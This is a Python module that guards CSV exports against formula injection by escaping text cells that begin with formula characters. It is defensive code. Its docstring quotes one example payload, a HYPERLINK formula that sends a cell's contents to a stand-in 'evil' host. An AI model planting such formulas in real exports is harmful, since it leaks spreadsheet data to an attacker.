"""CSV exports that a spreadsheet cannot turn into formulas (OWASP "CSV injection").

A cell that starts with =, +, -, @, a tab or a carriage return is a formula to Excel, LibreOffice and WPS: a
subscriber's nickname such as `=HYPERLINK("http://evil/?"&A1,"click")` would run in the marketer's spreadsheet.
Every text cell we export goes through `neutralise`, which prefixes such a cell with a single quote (shown as text,
never evaluated). Numbers, dates and booleans are written as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose text cells are neutralised."""

    def __init__(self, buffer: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(buffer, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(buffer: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(buffer, **kwargs)
